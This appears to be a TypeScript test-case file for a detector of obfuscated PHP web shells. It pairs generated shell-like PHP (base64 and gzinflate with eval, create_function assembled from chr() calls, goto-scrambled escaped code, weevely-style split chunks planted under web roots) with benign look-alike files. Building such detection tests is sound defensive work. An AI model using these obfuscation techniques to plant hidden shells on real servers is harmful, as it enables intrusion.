import type { Attack } from '../attack.js';
import { hiding } from './obfuscated-code.js';

/** PHP as it is left behind on web servers. The image has no PHP: the files lie in the document root. */
export const obfuscatedPhp: readonly Attack[] = [
  {
    id: 'obfuscated-php-known',
    title: 'Something known in PHP that inflates base64 and evaluates it',
    technique: 'T1505.003',
    requires: ['signature'],
    allows: ['obfuscated'],
    attack: {
      volumes: { '/www': 'empty-dir' },
      ...hiding`
put('/www/uploads/image.php', "<?php\neval(gzinflate(base64_decode('%s')));\n" % b64(deflate(marked(PHP, '// '))))
stay()`,
    },
    twin: {
      title: 'PHP with pictures as data in base64',
      volumes: { '/www': 'empty-dir' },
      ...hiding`
icons = ''.join("        '%s' => 'data:image/png;base64,%s',\n" % (words(1) + str(at), b64(b'\x89PNG\r\n\x1a\n' + bytes(chance.randrange(256) for _ in range(600)))) for at in range(24))
put('/www/lib/Icons.php', '<?php\n\ndeclare(strict_types=1);\n\nnamespace Shop\\View;\n\n/** Small pictures that go into the page itself. */\nfinal class Icons\n{\n    private const ICONS = [\n' + icons + r'''    ];

    public static function tag(string $name): string
    {
        return sprintf('<img alt="%s" src="%s">', htmlspecialchars($name), self::ICONS[$name] ?? '');
    }

    public static function save(string $name, string $path): bool
    {
        $data = explode(',', self::ICONS[$name], 2)[1];
        return file_put_contents($path, base64_decode($data, true)) !== false;
    }
}
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-php-characters',
    title: 'PHP whose functions are put together from single characters',
    technique: 'T1505.003',
    requires: ['obfuscated'],
    attack: hiding`
def chars(text): return '.'.join('chr(%d)' % ord(each) for each in text)
put('/srv/www/wp-content/cache.php', '<?php\n$a=%s;\n$b=%s;\n$c=$a(%s,$b);\n@$c(%s);\n' % (chars('create_function'), chars(PHP), "''", "''"))
stay()`,
    twin: {
      title: "PHP with a shop's texts in a long array",
      ...hiding`
rows = ''.join("    '%s.%d' => '%s',\n" % (words(2).replace(' ', '_'), at, words(14).capitalize() + '.') for at in range(700))
put('/srv/www/lang/en.php', '<?php\n\n// Texts of the shop. Keep the keys sorted.\nreturn [\n' + rows + '];\n')
stay()`,
    },
  },
  {
    id: 'obfuscated-php-goto',
    title: 'PHP with its order hidden by goto and its strings in escapes',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    attack: hiding`
def label(): return ''.join(chance.choice('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_') for _ in range(5))
def escaped(text): return '"' + ''.join('\\x%x' % ord(each) if chance.random() < 0.5 else '\\%o' % ord(each) for each in text) + '"'
steps = []
for _ in range(60):
    steps.append('$GLOBALS[%s] = %s(%s);' % (escaped(words(1)), '$' + 'X'.join(words(2).split()), escaped(words(9))))
    steps.append('if (!isset($_SERVER[%s])) { echo %s; }' % (escaped('HTTP_' + words(1).upper()), escaped(words(5))))
labels = ['L' + label() for _ in steps] + ['Lend0']
blocks = ['%s: %s goto %s;' % (labels[at], step, labels[at + 1]) for at, step in enumerate(steps)]
first = labels[0]
chance.shuffle(blocks)
put('/srv/www/index.php', '<?php\n goto %s; %s Lend0: \n' % (first, ' '.join(blocks)))
stay()`,
    twin: {
      title: 'a template that a template engine has compiled to PHP',
      ...hiding`
parts = ''.join("  <tr><td><?php echo htmlspecialchars((string)$this->scope['%s'], ENT_QUOTES, 'UTF-8');?></td><td><?php if (!empty($this->scope['%s'])) {?>%s<?php } else {?>%s<?php }?></td></tr>\n" % (words(1), words(1), words(6), words(3)) for _ in range(160))
put('/srv/www/cache/9f86d081884c7d65_list.tpl.php', "<?php\n/* compiled from \"list.tpl\" */\nif (!defined('ENGINE')) exit;\nfunction content_5f2a1b_71890245($_smarty_tpl) {?>\n<table>\n" + parts + '</table>\n<?php }\n')
stay()`,
    },
  },
  {
    id: 'obfuscated-php-pieces',
    title: 'PHP cut into pieces with noise between, as weevely leaves it',
    technique: 'T1505.003',
    requires: ['obfuscated'],
    attack: hiding`
def noisy(text, noise): return ''.join(each + (noise if chance.random() < 0.25 else '') for each in text)
hidden = b64(zlib.compress(PHP.encode()))
size = len(hidden) // 6 + 1
names = ['$A', '$k', '$Z', '$q', '$w', '$M', '$t']
lines = ["%s='%s';" % (names[at], noisy(hidden[at * size:(at + 1) * size], 'x%')) for at in range(6)]
lines.append("$f=str_replace('Tz','',%r);" % noisy('create_function', 'Tz'))
lines.append("$g=str_replace('j9','',%r);" % noisy('gzuncompress', 'j9'))
lines.append("$b=str_replace('j9','',%r);" % noisy('base64_decode', 'j9'))
lines.append("$u=$f('',$g($b(str_replace('x%','',$A.$k.$Z.$q.$w.$M))));$u();")
put('/srv/www/assets/.thumb.php', '<?php\n' + '\n'.join(lines) + '\n?>\n')
stay()`,
    twin: {
      title: 'PHP with the tables of a cipher',
      ...hiding`
tables = ''.join('    private static $table%d = [\n%s    ];\n' % (number, ''.join('        ' + ', '.join('0x%08X' % chance.getrandbits(32) for _ in range(6)) + ',\n' for _ in range(42))) for number in range(4))
put('/srv/www/vendor/crypt/Twofish.php', '<?php\n\nnamespace Crypt;\n\n/**\n * Pure-PHP implementation of a block cipher.\n */\nclass Twofish\n{\n' + tables + r'''
    /** Encrypts one block of sixteen bytes. */
    protected function encryptBlock(string $in): string
    {
        [$a, $b, $c, $d] = array_values(unpack('V4', $in));
        for ($round = 0; $round < 16; $round += 2) {
            $t0 = self::$table0[$a & 0xFF] ^ self::$table1[($a >> 8) & 0xFF] ^ self::$table2[($a >> 16) & 0xFF];
            $c = ($c ^ ($t0 + $this->keys[$round])) & 0xFFFFFFFF;
            [$a, $b, $c, $d] = [$c, $d, $a, $b];
        }
        return pack('V4', $a, $b, $c, $d);
    }
}
''')
stay()`,
    },
  },
];
